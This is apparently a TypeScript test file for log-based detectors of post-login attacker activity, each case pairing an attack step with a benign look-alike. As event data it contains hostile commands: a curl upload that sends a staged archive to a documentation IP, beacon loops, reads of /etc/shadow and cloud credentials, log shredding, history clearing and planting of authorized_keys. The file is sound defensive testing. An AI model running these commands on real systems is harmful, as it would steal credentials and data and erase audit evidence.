// What attackers do after the login, as the log detectors see it (issue 15 §3, §4; issue 22 §7,
// §8): each step generated here, with the routine look-alike that must stay quiet beside it.
// Every case runs all log detectors, so a rule that fires on another rule's step fails here too.
import { afterAll, describe, expect, it } from 'vitest';
import { insertEvents, newAssessment, runDetectors, type TestEvent } from '../../../test/kits/detect';
import { closeDb } from '../../db/client';
import { detectors } from '../registry';

afterAll(closeDb);

const logDetectors = detectors.filter((d) => d.source === 'logs');
const T0 = Date.parse('2026-03-07T10:00:00Z');
const at = (s: number) => new Date(T0 + s * 1000);
/** An audited execve in webadmin's login session (auid 1001), the way the auditd parser stores it (no user name). */
const exec = (s: number, argv: string[], extra: Partial<TestEvent> = {}): TestEvent => ({
  ts: at(s),
  kind: 'exec',
  exe: argv[0],
  argv,
  uid: 1001,
  euid: 1001,
  auid: 1001,
  ...extra,
});
const failed = (s: number, user: string, src: string): TestEvent => ({ ts: at(s), kind: 'ssh_failed', program: 'sshd', user, src });
const accepted = (s: number, user: string, src: string, method = 'password', host = 'web01'): TestEvent => ({
  ts: at(s),
  kind: 'ssh_accepted',
  program: 'sshd',
  user,
  src,
  host,
  raw: `sshd[9]: Accepted ${method} for ${user} from ${src} port 50000 ssh2`,
});
const sudo = (s: number, user: string, command: string): TestEvent => ({
  ts: at(s),
  kind: 'sudo',
  user,
  exe: command.split(' ')[0],
  argv: command.split(' '),
  euid: 0,
  result: 'USER=root',
});
/** Seconds between runs: a 10 s loop with ±40 % jitter (fixed, so the test is repeatable). */
const JITTERED = [10, 6, 14, 9, 12, 7, 13, 10, 8, 14, 6, 11, 9, 13, 7, 12, 10, 8, 14];
function series(start: number, gaps: number[]): number[] {
  const out = [start];
  for (const g of gaps) out.push((out.at(-1) ?? start) + g);
  return out;
}

async function detect(events: TestEvent[]) {
  const a = await newAssessment();
  await insertEvents(a, events);
  return runDetectors(a, logDetectors);
}
const summary = (found: Awaited<ReturnType<typeof detect>>) => found.map((d) => [d.detector, d.stage, d.technique, d.peer]).sort();

describe('after the login: the valid account', () => {
  it('Accepted right after 10 failures from the same address: guessing (Exploitation) and a valid-account login (Delivery, T1078)', async () => {
    const found = await detect([...Array.from({ length: 10 }, (_, i) => failed(i * 3, 'bob', '203.0.113.9')), accepted(40, 'bob', '203.0.113.9')]);
    expect(summary(found)).toEqual([
      ['logs.ssh-bruteforce-success', 'delivery', 'T1078', '203.0.113.9'],
      ['logs.ssh-password-guessing', 'exploitation', 'T1110.001', '203.0.113.9'],
    ]);
    const login = found.find((d) => d.detector === 'logs.ssh-bruteforce-success');
    expect(login?.startTs).toEqual(at(40));
  });

  it("pam_unix's authentication-failure line and sshd's Failed line of one try count once (8 tries: 8 failures, 4 tries: quiet)", async () => {
    const tries = (n: number, src: string) =>
      Array.from({ length: n }, (_, i): TestEvent[] => [
        {
          ...failed(i * 3, 'root', src),
          pid: 900 + i,
          raw: `sshd[${900 + i}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${src}  user=root`,
        },
        { ...failed(i * 3 + 2, 'root', src), pid: 900 + i, raw: `sshd[${900 + i}]: Failed password for root from ${src} port ${40000 + i} ssh2` },
      ]).flat();
    const found = await detect([...tries(8, '203.0.113.9'), ...tries(4, '203.0.113.10').map((e) => ({ ...e, host: 'web02' }))]);
    expect(found.map((d) => [d.detector, d.hostName, d.evidenceIds.length])).toEqual([['logs.ssh-password-guessing', 'web01', 8]]);
    expect(found[0]?.summary).toMatch(/^8 failed SSH logins/);
  });

  it('look-alike: three typos then the right password is nothing', async () => {
    const found = await detect([failed(0, 'bob', '10.0.0.7'), failed(5, 'bob', '10.0.0.7'), failed(9, 'bob', '10.0.0.7'), accepted(14, 'bob', '10.0.0.7')]);
    expect(found).toEqual([]);
  });

  it('sudo by the account that was just guessed is privilege escalation (T1548.003, high)', async () => {
    const found = await detect([
      ...Array.from({ length: 10 }, (_, i) => failed(i * 3, 'webadmin', '203.0.113.9')),
      accepted(40, 'webadmin', '203.0.113.9'),
      sudo(60, 'webadmin', '/usr/bin/id'),
    ]);
    const esc = found.filter((d) => d.detector === 'logs.privilege-escalation');
    expect(esc.map((d) => [d.stage, d.technique, d.severity])).toEqual([['exploitation', 'T1548.003', 'high']]);
    expect(esc[0]?.summary).toMatch(/sudo by webadmin \(an account just guessed over SSH\): \/usr\/bin\/id/);
  });

  it('look-alike: an admin logging in with a key and running sudo tail every minute stays quiet', async () => {
    const events: TestEvent[] = [];
    for (let i = 0; i < 8; i++) events.push(accepted(i * 60, 'ops', '10.0.0.30', 'publickey'), sudo(i * 60 + 1, 'ops', '/usr/bin/tail -n 2 /var/log/syslog'));
    expect(await detect(events)).toEqual([]);
  });
});

describe('after the login: C2 from the command line', () => {
  const beacon = series(0, JITTERED).map((s, i) => exec(s, ['curl', '-s', '-m', '5', '-o', '/dev/null', `http://203.0.113.50:8080/api/sync?n=${i}`]));

  it('a curl loop to one URL every 10 s ± 40 % is C2 (T1071.001) with the peer, not 20 downloads', async () => {
    const found = await detect(beacon);
    expect(summary(found)).toEqual([['logs.command-beacon', 'c2', 'T1071.001', '203.0.113.50']]);
    expect(found[0]?.evidenceIds).toHaveLength(20);
    expect(found[0]?.summary).toMatch(/20 times, every 10(\.0)? s .*timestamp score 0\.[6-9]/);
  });

  it('a POST of a file to the address it beacons to is Exfiltration Over C2 Channel (T1041)', async () => {
    const found = await detect([...beacon, exec(45, ['curl', '-s', '--data-binary', '@/var/tmp/.x/.s.tgz', 'http://203.0.113.50:8080/api/upload'])]);
    expect(found.filter((d) => d.detector === 'logs.tool-upload').map((d) => [d.stage, d.technique, d.peer])).toEqual([['actions', 'T1041', '203.0.113.50']]);
  });

  it('a python implant connecting to port 4444 every minute (auditd SOCKADDR) is C2 (T1071)', async () => {
    const found = await detect(
      series(0, [60, 55, 66, 58, 61, 63, 57, 60, 64, 59, 62]).map((s) => ({
        ts: at(s),
        kind: 'connect',
        exe: '/usr/bin/python3',
        dst: '198.51.100.44',
        dport: 4444,
      })),
    );
    expect(summary(found).filter((d) => d[0] === 'logs.command-beacon')).toEqual([['logs.command-beacon', 'c2', 'T1071', '198.51.100.44']]);
  });

  it('an implant in /tmp/.x connecting to 443 every minute is C2 over web protocols (T1071.001)', async () => {
    const found = await detect(
      series(0, [60, 57, 63, 60, 58, 62, 61, 59, 60, 64, 56]).map((s) => ({
        ts: at(s),
        kind: 'connect',
        exe: '/tmp/.x',
        auid: 0,
        dst: '192.0.2.77',
        dport: 443,
      })),
    );
    expect(summary(found).filter((d) => d[0] === 'logs.command-beacon')).toEqual([['logs.command-beacon', 'c2', 'T1071.001', '192.0.2.77']]);
  });

  it("the host's own cron job pinging a named uptime service every 5 min stays quiet; the same schedule to a bare IP is C2", async () => {
    const cronTimes = series(0, Array(15).fill(300));
    const ping = 'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/5f2e1c0a-77d4';
    const found = await detect([
      ...cronTimes.map((s) => ({ ts: at(s), kind: 'cron_run', user: 'root', program: 'CRON', argv: ping.split(' ') })),
      ...cronTimes.map((s) => exec(s + 0.01, ping.split(' '), { uid: 0, euid: 0, auid: 0 })),
      ...cronTimes.map((s) => exec(s + 0.01, ['curl', '-s', 'http://198.51.100.99/p'], { host: 'web09', uid: 0, euid: 0, auid: 0 })),
    ]);
    expect(summary(found)).toEqual([['logs.command-beacon', 'c2', 'T1071.001', '198.51.100.99']]);
    expect(found[0]?.hostName).toBe('web09');
  });

  it('one download from a bare outside address into /tmp stays Delivery (T1105), not C2', async () => {
    const found = await detect([exec(0, ['curl', '-o', '/tmp/x', 'http://203.0.113.50:8080/x'])]);
    expect(summary(found)).toEqual([['logs.tool-download', 'delivery', 'T1105', '203.0.113.50']]);
  });

  it('look-alikes stay quiet: monitoring loops to internal addresses and localhost, irregular manual runs, a named-site download', async () => {
    const every15 = series(0, Array(19).fill(15));
    const found = await detect([
      ...every15.map((s) => exec(s, ['curl', '-s', 'http://10.20.30.11:9100/metrics'], { host: 'mon' })),
      ...every15.map((s) => exec(s, ['curl', '-fsS', 'http://localhost/healthz'], { host: 'web02' })),
      ...every15.map((s) => exec(s, ['wget', '-q', '-O', '-', 'http://grafana:3000/api/health'], { host: 'web03' })),
      ...series(0, [3, 400, 20, 1500, 7, 900, 60, 2000, 5, 300, 45]).map((s) =>
        exec(s, ['curl', '-s', 'https://api.github.com/repos/x/y/releases'], { host: 'dev' }),
      ),
      exec(5, ['curl', '-L', '-o', 'report.pdf', 'https://example.com/report.pdf'], { host: 'dev' }),
    ]);
    expect(found).toEqual([]);
  });

  it('look-alike: a backup account pulling a file from an internal host by name with scp is not a download', async () => {
    const found = await detect([
      exec(0, ['scp', '-q', '-o', 'BatchMode=yes', 'backupsvc@alpha:/etc/nginx/nginx.conf', '/srv/backup/alpha-nginx.conf'], {
        auid: 2003,
        uid: 2003,
        euid: 2003,
      }),
      exec(1, ['rsync', '-a', 'backupsvc@10.20.30.10:/var/www/', '/srv/backup/www/'], { auid: 2003, uid: 2003, euid: 2003 }),
    ]);
    expect(found).toEqual([]);
  });
});

describe('after the login: credentials, data, staging, traces', () => {
  it('credential files: .pgpass, .env (through sudo), cloud credentials are T1552.001; /etc/shadow is T1003.008, each its own detection', async () => {
    const found = await detect([
      exec(0, ['cat', '/home/webadmin/.pgpass']),
      sudo(1, 'webadmin', '/usr/bin/cat /var/www/shop/.env'),
      exec(2, ['cp', '/root/.aws/credentials', '/var/tmp/.x/c']),
      exec(3, ['grep', 'DB_PASSWORD', '/var/www/html/wp-config.php']),
      sudo(4, 'webadmin', '/usr/bin/cat /etc/shadow'),
      exec(5, ['cat', '/srv/app-data/app.env']),
    ]);
    expect(summary(found)).toEqual([
      ['logs.sensitive-file-read', 'exploitation', 'T1003.008', null],
      ['logs.sensitive-file-read', 'exploitation', 'T1552.001', null],
    ]);
    expect(found.find((d) => d.technique === 'T1552.001')?.evidenceIds).toHaveLength(5);
  });

  it('look-alike: the clients the files are written for (psql reading .pgpass, php reading .env), /etc/environment, a .venv and a .envrc stay quiet', async () => {
    const found = await detect([
      { ts: at(0), kind: 'audit', exe: '/usr/bin/psql', paths: ['/home/webadmin/.pgpass'] },
      { ts: at(1), kind: 'audit', exe: '/usr/sbin/php-fpm8.2', paths: ['/var/www/shop/.env'] },
      exec(2, ['psql', '-h', 'db', '-f', '/home/webadmin/report.sql']),
      exec(3, ['cat', '/etc/environment']),
      exec(4, ['ls', '-la', '/home/webadmin/.venv', '/home/webadmin/.envrc']),
    ]);
    expect(found).toEqual([]);
  });

  it('pg_dump in a login session into a hidden folder is T1005 (high); mysqldump through sudo is T1005', async () => {
    const found = await detect([
      exec(0, ['/usr/lib/postgresql/15/bin/pg_dump', '-h', '127.0.0.1', '-U', 'webapp', '-d', 'shopdb', '-f', '/var/tmp/.cache-x/shop.sql']),
      sudo(600, 'alice', '/usr/bin/mysqldump --all-databases'),
    ]);
    expect(found.map((d) => [d.detector, d.stage, d.technique, d.severity])).toEqual([
      ['logs.database-dump', 'exploitation', 'T1005', 'high'],
      ['logs.database-dump', 'exploitation', 'T1005', 'medium'],
    ]);
  });

  it("look-alike: the postgres account's nightly pg_dump from cron (system login uid) stays quiet", async () => {
    const found = await detect([
      exec(0, ['/usr/bin/pg_dump', '-Fc', '-f', '/var/backups/pg/shop.dump', 'shopdb'], { uid: 113, euid: 113, auid: 113 }),
      exec(1, ['/usr/bin/pg_dumpall', '-f', '/var/backups/pg/all.sql'], { uid: 0, euid: 0, auid: undefined }),
    ]);
    expect(found).toEqual([]);
  });

  it('tar into a hidden folder under /var/tmp is staging (T1560.001, Exploitation) without a peer', async () => {
    const found = await detect([exec(0, ['tar', 'czf', '/var/tmp/.cache-x/.s.tgz', '-C', '/var/tmp/.cache-x', 'shop.sql', '-C', '/var/www', 'shop/uploads'])]);
    expect(found.map((d) => [d.detector, d.stage, d.technique, d.peer, d.severity])).toEqual([
      ['logs.archive-staging', 'exploitation', 'T1560.001', null, 'high'],
    ]);
  });

  it('look-alikes: a backup tar to stdout or into /var/backups, and unpacking in /tmp, stay quiet', async () => {
    const found = await detect([
      exec(0, ['tar', 'czf', '-', '-C', '/var/www', 'html', 'shop/static'], { auid: 1003 }),
      exec(1, ['tar', '-czf', '/var/backups/www-2026-03-07.tgz', '/var/www']),
      exec(2, ['tar', 'xzf', '/tmp/node-v20.tgz', '-C', '/opt']),
      exec(3, ['zip', '-r', '/home/alice/reports.zip', '/home/alice/reports']),
      exec(4, ['tar', 'czf', '/home/alice/dotfiles.tgz', '/home/alice/.config', '/home/alice/.bashrc']),
      exec(5, ['tar', '-C', '/tmp/build', '-cf', '/srv/artifacts/app.tar', '.']),
    ]);
    expect(found).toEqual([]);
  });

  it('scp pull of a dump staged in /tmp on an internal host is Remote Data Staging (T1074.002) with the peer', async () => {
    const found = await detect([exec(0, ['scp', 'root@10.20.2.10:/tmp/.d.sql', '/tmp/.d.sql'], { uid: 0, euid: 0, auid: 0 })]);
    expect(summary(found)).toEqual([['logs.remote-staging', 'exploitation', 'T1074.002', '10.20.2.10']]);
  });

  it('look-alikes: a backup pulling nginx.conf and the web root from internal hosts, an scp upload, a pull from outside stay out of T1074.002', async () => {
    const found = await detect([
      exec(0, ['scp', '-q', 'backupsvc@alpha:/etc/nginx/nginx.conf', '/srv/backup/alpha-nginx.conf'], { auid: 2003 }),
      exec(1, ['rsync', '-a', 'backupsvc@10.20.30.10:/var/www/', '/srv/backup/www/'], { auid: 2003 }),
      exec(2, ['scp', '/tmp/.d.sql', 'root@10.20.2.10:/tmp/.d.sql']),
      exec(3, ['scp', 'u@203.0.113.7:/tmp/.t.tgz', '/home/u/']),
    ]);
    expect(found.filter((d) => d.technique === 'T1074.002')).toEqual([]);
  });

  it('history cleared: rm and ln -sf /dev/null of .bash_history, unset HISTFILE, history -c are T1070.003', async () => {
    const found = await detect([
      exec(0, ['rm', '-f', '/home/webadmin/.bash_history']),
      exec(0.1, ['ln', '-sf', '/dev/null', '/home/webadmin/.bash_history']),
      exec(1, ['bash', '-c', 'unset HISTFILE; history -c']),
      exec(2, ['bash', '-c', 'export HISTSIZE=0']),
    ]);
    expect(found.map((d) => [d.detector, d.stage, d.technique, d.evidenceIds.length])).toEqual([['logs.history-clear', 'exploitation', 'T1070.003', 4]]);
  });

  it('traces deleted: rm -rf of a hidden staging folder is T1070.004; shred/truncate of /var/log is T1070.002', async () => {
    const found = await detect([
      exec(0, ['rm', '-rf', '/var/tmp/.cache-x']),
      exec(600, ['shred', '-u', '/var/log/auth.log'], { uid: 0, euid: 0 }),
      exec(601, ['truncate', '-s', '0', '/var/log/nginx/access.log'], { uid: 0, euid: 0 }),
    ]);
    expect(summary(found)).toEqual([
      ['logs.indicator-removal', 'exploitation', 'T1070.002', null],
      ['logs.indicator-removal', 'exploitation', 'T1070.004', null],
    ]);
  });

  it('look-alikes: reading history, removing a build folder in /tmp, logrotate, a single file in a hidden folder stay quiet', async () => {
    const found = await detect([
      exec(0, ['cat', '/home/alice/.bash_history']),
      exec(1, ['rm', '-rf', '/tmp/build-12345']),
      exec(2, ['/usr/sbin/logrotate', '/etc/logrotate.conf'], { uid: 0, euid: 0, auid: undefined }),
      exec(3, ['rm', '-f', '/var/tmp/.cache-x/shop.sql']),
      exec(4, ['rm', '-rf', '/home/alice/.cache/pip']),
    ]);
    expect(found).toEqual([]);
  });
});

describe('after the login: the next host', () => {
  /** beta's view: the key planted over a password session from alpha, then alpha logs in with the key. */
  const plant = (dt: number): TestEvent[] => [
    accepted(0, 'deploy', '10.20.30.10', 'password', 'beta'),
    {
      ts: at(0.1),
      kind: 'login',
      user: 'deploy',
      host: 'beta',
      raw: 'sshd[12546]: pam_unix(sshd:session): session opened for user deploy(uid=2001) by (uid=0)',
    },
    exec(0.2, ['bash', '-c', 'mkdir -p ~/.ssh && chmod 700 ~/.ssh && cat >> ~/.ssh/authorized_keys'], { host: 'beta', uid: 2001, euid: 2001, auid: 2001 }),
    accepted(dt, 'deploy', '10.20.30.10', 'publickey', 'beta'),
  ];

  it('a key planted over SSH from 10.20.30.10, then a key login from there 61 s later: T1098.004 (peer 10.20.30.10) and T1021.004', async () => {
    const found = await detect(plant(61));
    expect(summary(found)).toEqual([
      ['logs.authorized-keys', 'installation', 'T1098.004', '10.20.30.10'],
      ['logs.ssh-key-login', 'exploitation', 'T1021.004', '10.20.30.10'],
    ]);
    expect(found.find((d) => d.detector === 'logs.ssh-key-login')?.summary).toMatch(/61 s after a key was written/);
  });

  it("the client's command line on alpha (sshpass … 'cat >> ~/.ssh/authorized_keys') writes nothing on alpha", async () => {
    const found = await detect([
      exec(0, ['sshpass', '-p', 'x', 'ssh', 'deploy@10.20.30.11', 'mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys'], { host: 'alpha' }),
      exec(0.1, ['ssh', 'deploy@10.20.30.11', 'mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys'], { host: 'alpha' }),
    ]);
    expect(found).toEqual([]);
  });

  it('look-alikes: routine key logins (ops every minute, a backup pull) with no fresh key, and a key login from another address, stay quiet', async () => {
    const events: TestEvent[] = [...plant(0).slice(0, 3)];
    for (let i = 0; i < 5; i++) events.push(accepted(5 + i * 60, 'ops', '10.20.30.30', 'publickey', 'beta'));
    events.push(accepted(70, 'backupsvc', '10.20.30.11', 'publickey', 'beta'), accepted(80, 'deploy', '10.20.30.99', 'publickey', 'beta'));
    const found = await detect(events);
    expect(summary(found)).toEqual([['logs.authorized-keys', 'installation', 'T1098.004', '10.20.30.10']]);
  });
});

describe('from outside: a key planted without a session', () => {
  /** cache's view: Redis (running as deploy) renames its dump to ~deploy/.ssh/authorized_keys, then a key login from outside. */
  const redisWrite: TestEvent = {
    ts: at(0),
    kind: 'file_create',
    host: 'cache',
    exe: '/usr/bin/redis-server',
    uid: 1001,
    euid: 1001,
    auid: 1001,
    paths: ['authorized_keys', '/home/deploy/.ssh/authorized_keys'],
  };

  it('a key written by redis-server, then a key login as deploy from 203.0.113.77 30 s later: T1098.004 and T1078 (Delivery)', async () => {
    const found = await detect([redisWrite, accepted(30, 'deploy', '203.0.113.77', 'publickey', 'cache')]);
    expect(summary(found)).toEqual([
      ['logs.authorized-keys', 'installation', 'T1098.004', null],
      // the same login is also the account's first from that outside address (low: within the data's first day)
      ['logs.new-source-login', 'delivery', 'T1078', '203.0.113.77'],
      ['logs.planted-key-login', 'delivery', 'T1078', '203.0.113.77'],
    ]);
    expect(found.find((d) => d.detector === 'logs.planted-key-login')?.summary).toMatch(/30 s after a key was written/);
    expect(found.find((d) => d.detector === 'logs.new-source-login')?.severity).toBe('low');
  });

  it('look-alikes: a key login of another account, one after the window, routine key logins from outside, and ssh-copy-id from the same address stay quiet', async () => {
    const events: TestEvent[] = [
      redisWrite,
      accepted(40, 'ops', '203.0.113.5', 'publickey', 'cache'),
      accepted(3700, 'deploy', '203.0.113.77', 'publickey', 'cache'),
      // alice logs in from home with her password, appends her key, then uses it.
      accepted(100, 'alice', '198.51.100.7', 'password', 'web01'),
      {
        ts: at(100.1),
        kind: 'login',
        user: 'alice',
        host: 'web01',
        raw: 'sshd[77]: pam_unix(sshd:session): session opened for user alice(uid=1001) by (uid=0)',
      },
      exec(105, ['bash', '-c', 'mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys'], { host: 'web01' }),
      accepted(160, 'alice', '198.51.100.7', 'publickey', 'web01'),
    ];
    const found = await detect(events);
    // Every outside login here is its account's first from that address, within the data's first
    // day: logs.new-source-login reports each as low evidence (its own tests cover it); nothing else fires.
    const firstLogins = found.filter((d) => d.detector === 'logs.new-source-login');
    expect(firstLogins.map((d) => [d.peer, d.severity]).sort()).toEqual([
      ['198.51.100.7', 'low'],
      ['203.0.113.5', 'low'],
      ['203.0.113.77', 'low'],
    ]);
    expect(summary(found.filter((d) => d.detector !== 'logs.new-source-login'))).toEqual([
      ['logs.authorized-keys', 'installation', 'T1098.004', null],
      ['logs.authorized-keys', 'installation', 'T1098.004', '198.51.100.7'],
    ]);
  });
});
